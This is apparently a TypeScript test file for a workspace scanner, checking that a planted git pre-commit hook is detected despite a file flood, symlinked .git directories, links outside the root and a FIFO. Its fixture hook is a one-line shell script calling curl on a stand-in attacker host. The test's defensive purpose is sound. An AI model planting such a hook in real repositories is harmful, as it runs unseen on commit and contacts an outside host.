import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { after, before, it } from 'node:test';
import { LocalFileSurfaceSource } from '../../../src/sources/local-file-source.js';
import { diffManifests } from '../../../src/verdicts/diff-manifests.js';
import { judgeFileCreated } from '../../../src/verdicts/file-created.js';
import { lookUpInManifest } from '../../../src/verdicts/manifest-lookup.js';
import { describeEachSurfaceFs } from '../support/surface-fs-variants.js';
import { removeDir, tempDir } from '../support/trees.js';

/**
 * A manifest's exact lookups (SPEC §13: a condition on an exact uri is judged from that uri alone). Each
 * attack is mounted on a real tree: a flood of empty files that runs the walk out of maxFiles, a `.git`
 * that is a link to `real-git` inside the workspace (git follows it), links that leave the root, a FIFO at
 * the judged path. Without the lookups the first two are `undetermined` or a wrong `false`.
 */

const HOOK = '#!/bin/sh\ncurl attacker.example\n';
const sha = (text: string) => createHash('sha256').update(text).digest('hex');
const created = (uri: string) => ({ conditionType: 'file_created', uri, match: 'exact' }) as const;

describeEachSurfaceFs('manifest lookups', (variant) => {
  let root: string;
  let outside: string;
  const source = () =>
    new LocalFileSurfaceSource({ root, maxFiles: 50, surfaceFs: variant.name as 'procfs' | 'openat2' });
  const manifest = (lookups?: string[]) => source().acquireManifest(lookups === undefined ? {} : { lookups });

  before(() => {
    root = tempDir();
    outside = tempDir();
    fs.mkdirSync(path.join(root, 'flood'));
    for (let i = 0; i < 120; i++)
      fs.writeFileSync(path.join(root, 'flood', `f${String(i).padStart(4, '0')}`), '');
    fs.mkdirSync(path.join(root, 'real-git/hooks'), { recursive: true });
    fs.writeFileSync(path.join(root, 'real-git/hooks/pre-commit'), HOOK, { mode: 0o755 });
    fs.chmodSync(path.join(root, 'real-git/hooks/pre-commit'), 0o755);
    fs.symlinkSync('real-git', path.join(root, '.git'));
    fs.mkdirSync(path.join(outside, 'hooks'));
    fs.writeFileSync(path.join(outside, 'hooks/pre-commit'), 'OUTSIDE SECRET');
    fs.symlinkSync(outside, path.join(root, 'abs-git'));
    fs.symlinkSync(path.relative(root, outside), path.join(root, 'rel-git'));
  });
  after(() => {
    removeDir(root);
    removeDir(outside);
  });

  it('without lookups the flood stops the walk: a condition on the hook cannot be told', async () => {
    const walked = await manifest();
    assert.equal(walked.acquisition, 'partial');
    assert.ok(walked.coverage.reasons.includes('file_limit_exceeded'));
    assert.equal(walked.lookups, undefined);
    assert.deepEqual(lookUpInManifest(walked, '/.git/hooks/pre-commit'), { kind: 'unknown' });
  });

  it('a looked-up uri is found through the in-root link, read in full, and names the link', async () => {
    const looked = await manifest(['/.git/hooks/pre-commit', '/flood/f0119', '/absent/x']);
    assert.deepEqual(looked.lookups, ['/.git/hooks/pre-commit', '/absent/x', '/flood/f0119']);
    // The walk still ran out of its budget: that gap stays, and says nothing about the lookups.
    assert.ok(looked.coverage.reasons.includes('file_limit_exceeded'));
    assert.deepEqual(lookUpInManifest(looked, '/.git/hooks/pre-commit'), {
      kind: 'entry',
      entry: {
        uri: '/.git/hooks/pre-commit',
        type: 'file',
        sizeBytes: HOOK.length,
        sha256: sha(HOOK),
        mode: 0o755,
        linkTarget: null,
        via: '/.git -> real-git',
      },
    });
    assert.equal(lookUpInManifest(looked, '/flood/f0119').kind, 'entry');
    assert.deepEqual(lookUpInManifest(looked, '/absent/x'), { kind: 'absent' });
    // A uri not looked up is still hidden by the walk's budget.
    assert.deepEqual(lookUpInManifest(looked, '/other'), { kind: 'unknown' });
  });

  it('the change set decides file_created on a looked-up uri despite the flood', async () => {
    // Baseline: no hook at /.git (the link does not exist yet); final: the link and the hook.
    const ws = tempDir();
    try {
      fs.mkdirSync(path.join(ws, 'flood'));
      for (let i = 0; i < 120; i++) fs.writeFileSync(path.join(ws, 'flood', `f${i}`), '');
      const lookups = ['/.git/hooks/pre-commit'];
      const src = new LocalFileSurfaceSource({
        root: ws,
        maxFiles: 50,
        surfaceFs: variant.name as 'procfs' | 'openat2',
      });
      const baseline = await src.acquireManifest({ lookups });
      const quiet = diffManifests(baseline, await src.acquireManifest({ lookups }));
      const untouched = judgeFileCreated(quiet, created('/.git/hooks/pre-commit'));
      assert.equal(untouched.status, 'complete', untouched.rationale);
      assert.equal(untouched.value, false);
      fs.mkdirSync(path.join(ws, 'real-git/hooks'), { recursive: true });
      fs.writeFileSync(path.join(ws, 'real-git/hooks/pre-commit'), HOOK);
      fs.symlinkSync('real-git', path.join(ws, '.git'));
      const changes = diffManifests(baseline, await src.acquireManifest({ lookups }));
      const judged = judgeFileCreated(changes, created('/.git/hooks/pre-commit'));
      assert.equal(judged.value, true, judged.rationale);
      assert.deepEqual(judged.provenUris, ['/.git/hooks/pre-commit']);
      // A uri no lookup covers stays undetermined under the flood.
      const other = judgeFileCreated(changes, created('/elsewhere.txt'));
      assert.equal(other.status, 'undetermined');
    } finally {
      removeDir(ws);
    }
  });

  it('a link leaving the root is a gap naming the uri, and nothing outside is read', async () => {
    const looked = await manifest(['/abs-git/hooks/pre-commit', '/rel-git/hooks/pre-commit']);
    const gaps = looked.coverage.gaps.filter((gap) => gap.uri?.includes('-git/') === true);
    assert.deepEqual(
      gaps.map((gap) => [gap.reason, gap.uri]),
      [
        ['link_not_followed', '/abs-git/hooks/pre-commit'],
        ['link_outside_root', '/rel-git/hooks/pre-commit'],
      ],
    );
    assert.deepEqual(lookUpInManifest(looked, '/abs-git/hooks/pre-commit'), { kind: 'unknown' });
    assert.ok(!JSON.stringify(looked).includes('OUTSIDE SECRET'));
  });

  it('a FIFO created at the uri is an entry of its own kind, never opened: file_created is decided false', async () => {
    const ws = tempDir();
    try {
      fs.mkdirSync(path.join(ws, 'git/hooks'), { recursive: true });
      const lookups = ['/git/hooks/pre-commit'];
      const src = new LocalFileSurfaceSource({ root: ws, surfaceFs: variant.name as 'procfs' | 'openat2' });
      const baseline = await src.acquireManifest({ lookups });
      // No writer ever opens it: an open for reading without O_NONBLOCK would hang here.
      execFileSync('mkfifo', [path.join(ws, 'git/hooks/pre-commit')]);
      const final = await src.acquireManifest({ lookups });
      const found = lookUpInManifest(final, '/git/hooks/pre-commit');
      assert.equal(found.kind === 'entry' ? found.entry.type : found.kind, 'other');
      const judged = judgeFileCreated(diffManifests(baseline, final), created('/git/hooks/pre-commit'));
      assert.equal(judged.status, 'complete', judged.rationale);
      assert.equal(judged.value, false);
    } finally {
      removeDir(ws);
    }
  });
});
